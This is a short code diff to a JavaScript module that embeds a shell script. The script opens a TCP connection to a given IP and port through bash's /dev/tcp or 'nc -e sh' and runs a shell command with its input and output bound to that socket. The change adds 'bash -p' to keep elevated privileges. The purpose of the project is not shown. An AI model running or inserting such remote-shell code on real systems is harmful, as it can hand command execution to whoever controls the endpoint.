@@ -4,7 +4,7 @@ export const CONNECTIONS = `
 raw() {
   case $RAW in
   bash)
-    bash -c 'exec 5<>"/dev/tcp/$1/$2" || exit 7
+    bash -p -c 'exec 5<>"/dev/tcp/$1/$2" || exit 7
       c=$3; shift 3; exec sh -c "$c" sf "$@" <&5 >&5' sf "$ip" "$port" "$CHILD" "$1" "$T0" $CK "$2" "$3" "$host" 2>"$1.c" 4>&-
     ;;
   nc) nc "$ip" "$port" -e sh -c "$CHILD" sf "$1" "$T0" $CK "$2" "$3" "$host" 2>"$1.c" 4>&- ;;
